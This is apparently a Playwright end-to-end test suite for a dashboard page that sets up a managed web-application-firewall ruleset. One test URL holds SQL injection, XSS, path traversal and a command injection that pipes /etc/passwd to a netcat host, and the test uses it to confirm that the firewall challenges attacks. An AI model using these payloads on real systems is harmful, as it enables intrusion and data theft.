import assert from 'node:assert/strict'
import type { Page } from 'playwright-core'
import { eventually } from '../support/eventually.ts'
import { api } from '../support/sluice.ts'
import { looksWell } from './looks.ts'
import { answersWith } from './rules-support.ts'
import { type DashboardTest, flows } from './support.ts'

const phase = 'http_request_firewall_managed'
const attack = `/search?q=${encodeURIComponent(`1' or '1'='1' union select password from users--`)}&x=${encodeURIComponent('<script>alert(1)</script>')}&f=${encodeURIComponent('../../../../etc/passwd')}&c=${encodeURIComponent(';cat /etc/passwd|nc 10.0.0.1 80')}`

/** The settings of the managed ruleset. */
const flow = flows()

async function deployed({ sluice, zoneId }: DashboardTest) {
  const { result } = await api(sluice, 'GET', `/zones/${zoneId}/rulesets/phases/${phase}/entrypoint`)
  return result
}

const choose = (page: Page, group: string, label: string) =>
  page.getByRole('radiogroup', { name: group }).getByText(label, { exact: true }).click()

const draftLines = (page: Page) =>
  page.getByRole('list', { name: 'Changes' }).getByRole('listitem').allTextContents()

flow('PL2, High and Managed Challenge are deployed, and an attack is challenged', async it => {
  const page = await it.page({ path: `/zones/${it.zoneId}/managed` })
  await page.getByRole('button', { name: 'Set up ruleset' }).click()
  await eventually(async () =>
    assert.deepEqual((await draftLines(page)).slice(0, 2), [
      'Ruleset deployed for all requests.',
      'Paranoia level: PL4. Threshold: Medium (40). Action: Block.',
    ]),
  )
  await choose(page, 'Paranoia level', 'PL2')
  await choose(page, 'Score threshold', 'High 25')
  await page.getByRole('radio', { name: 'Managed Challenge' }).check()
  await eventually(async () =>
    assert.equal(
      (await draftLines(page))[1],
      'Paranoia level: PL2. Threshold: High (25). Action: Managed Challenge.',
    ),
  )
  await page.getByText('Validated by the API').waitFor()
  assert.equal((await it.visit(attack)).status, 200)

  await page.getByRole('button', { name: /^. API call$/ }).click()
  await page.getByText('"paranoia-level-3"').waitFor()
  await page.getByRole('button', { name: 'Deploy', exact: true }).click()
  await page.getByText(/^Ruleset deployed \(version/).waitFor()
  await page.getByRole('region', { name: 'Draft' }).waitFor({ state: 'detached' })

  const { rules } = await deployed(it)
  assert.equal(rules.length, 1)
  assert.deepEqual(rules[0].action_parameters.overrides, {
    categories: [
      { category: 'paranoia-level-3', enabled: false },
      { category: 'paranoia-level-4', enabled: false },
    ],
    rules: [{ id: '6179ae15870a4bb7b2d480d4843b323c', score_threshold: 25, action: 'managed_challenge' }],
  })
  const challenged = await answersWith(it, attack, 403)
  assert.equal(challenged.headers.get('cf-mitigated'), 'challenge')
})

flow('the API validates a scope while the user types, and the fault shows its location', async it => {
  const page = await it.page({ path: `/zones/${it.zoneId}/managed` })
  await page.getByRole('radio', { name: 'Requests that match an expression' }).check()
  await page.getByRole('button', { name: 'Edit expression' }).click()
  const field = page.getByRole('textbox', { name: 'Expression' })
  await field.fill('http.request.uri.pat eq "/"')
  await page.getByText('The API rejects this draft').waitFor()
  const refusal = page.getByRole('region', { name: 'Draft' }).getByRole('alert')
  await eventually(async () =>
    assert.match((await refusal.textContent()) ?? '', /Filter parsing error \(1:1\)/),
  )
  await field.fill('http.request.uri.path ne "/health"')
  await page.getByText('Validated by the API').waitFor()
  await eventually(async () =>
    assert.deepEqual(await draftLines(page), [
      'Scope: all requests → requests where http.request.uri.path ne "/health".',
    ]),
  )
  await page.getByRole('button', { name: 'Discard' }).click()
  await eventually(async () => assert.ok(await page.getByRole('radio', { name: 'All requests' }).isChecked()))
})

flow('the security policy allows fast replacement of text', async it => {
  const page = await it.page({ path: `/zones/${it.zoneId}/managed` })
  await page.getByRole('radio', { name: 'Requests that match an expression' }).check()
  await page.getByRole('button', { name: 'Edit expression' }).click()
  const field = page.getByRole('textbox', { name: 'Expression' })
  await field.fill('http.host eq "a"')
  await field.locator('span', { hasText: 'http.host' }).first().waitFor()
  // As if the text came before the editor learned of the selection.
  await page.evaluate(() =>
    addEventListener('selectionchange', event => event.stopImmediatePropagation(), true),
  )
  await field.fill('http.request.uri.path eq "/b"')
  await page.getByText('requests where http.request.uri.path eq "/b".').waitFor()
  // Without the listener, and without a draft, of which the browser would warn.
  await page.getByRole('button', { name: 'Discard' }).click()
  await page.reload()
})

flow('a change of another user is shown, and not overwritten', async it => {
  const page = await it.page({ path: `/zones/${it.zoneId}/managed` })
  await choose(page, 'Score threshold', 'Low 60')
  const { id, rules } = await deployed(it)
  const [{ id: ruleId, ...rule }] = rules
  const theirs = structuredClone(rule)
  for (const name of ['version', 'last_updated', 'ref']) delete theirs[name]
  theirs.action_parameters.overrides.rules[0].action = 'log'
  const patched = await api(it.sluice, 'PATCH', `/zones/${it.zoneId}/rulesets/${id}/rules/${ruleId}`, theirs)
  assert.equal(patched.status, 200)
  await page.getByRole('button', { name: 'Deploy', exact: true }).click()
  await page.getByText('Rules changed by someone else').waitFor()
  await page.getByText('Action: Managed Challenge → Log.').waitFor()
  await page.getByRole('button', { name: 'Dismiss' }).click()
  await page.getByText('Validated by the API').waitFor()
  await page.getByRole('button', { name: 'Deploy', exact: true }).click()
  await page
    .getByText(/^Ruleset deployed \(version/)
    .last()
    .waitFor()
  const [after] = (await deployed(it)).rules
  assert.deepEqual(after.action_parameters.overrides.rules, [
    { id: '6179ae15870a4bb7b2d480d4843b323c', score_threshold: 60, action: 'log' },
  ])
})

flow('the browser creates keys for payload logging, and shows the private key once', async it => {
  const page = await it.page({ path: `/zones/${it.zoneId}/managed` })
  await page.getByRole('button', { name: 'Create key pair' }).click()
  const dialog = page.getByRole('dialog')
  const keys = JSON.parse((await dialog.locator('pre').textContent()) ?? '')
  assert.deepEqual(Object.keys(keys), ['private_key', 'public_key'])
  await eventually(async () =>
    assert.equal(await dialog.getByRole('button', { name: 'Use public key' }).isEnabled(), false),
  )
  await dialog.getByRole('button', { name: 'Copy both keys' }).click()
  await eventually(async () =>
    assert.deepEqual(JSON.parse(String(await page.evaluate('navigator.clipboard.readText()'))), keys),
  )
  await dialog.getByRole('checkbox', { name: 'I have saved the private key' }).check()
  await dialog.getByRole('button', { name: 'Use public key' }).click()
  await dialog.waitFor({ state: 'detached' })
  assert.equal((await page.content()).includes(keys.private_key), false)
  await page.getByText('Validated by the API').waitFor()
  await page.getByRole('button', { name: 'Deploy', exact: true }).click()
  await page.getByText(/^Ruleset deployed \(version/).waitFor()
  const [rule] = (await deployed(it)).rules
  assert.deepEqual(rule.action_parameters.matched_data, { public_key: keys.public_key })
})

flow('the page is accessible and fits in every look', async it => {
  const page = await it.page({ path: `/zones/${it.zoneId}/managed` })
  await choose(page, 'Paranoia level', 'PL3')
  await page.getByText('Validated by the API').waitFor()
  await looksWell(page, 'managed')
})

flow('a read-only token sees all settings, and the missing permission', async it => {
  const groups = (await api(it.sluice, 'GET', `/accounts/${it.accountId}/tokens/permission_groups`)).result
  const idOf = (name: string) => groups.find((group: { name: string }) => group.name === name).id
  const { result } = await api(it.sluice, 'POST', '/user/tokens', {
    name: 'reader',
    policies: [
      {
        effect: 'allow',
        permission_groups: [{ id: idOf('Zone Read') }, { id: idOf('Zone WAF Read') }],
        resources: { [`com.cloudflare.api.account.zone.${it.zoneId}`]: '*' },
      },
    ],
  })
  const page = await it.page({ path: `/zones/${it.zoneId}/managed`, token: result.value })
  await page.getByText('Your token lacks “Zone WAF Write” on this zone.').waitFor()
  await eventually(async () =>
    assert.equal(await page.getByRole('radio', { name: 'Block' }).isDisabled(), true),
  )
  await eventually(async () =>
    assert.equal(await page.getByRole('button', { name: 'Remove' }).isDisabled(), true),
  )
})

flow('the ruleset is removed after a confirmation', async it => {
  const page = await it.page({ path: `/zones/${it.zoneId}/managed` })
  await page.getByRole('button', { name: 'Remove' }).click()
  const draft = page.getByRole('region', { name: 'Draft' })
  await draft.getByRole('button', { name: 'Remove' }).click()
  await page.getByRole('dialog').getByRole('button', { name: 'Remove' }).click()
  await page
    .getByText(/^Ruleset removed \(version/)
    .first()
    .waitFor()
  await eventually(async () => assert.deepEqual((await deployed(it)).rules, []))
  await page.getByRole('button', { name: 'Set up ruleset' }).waitFor()
})
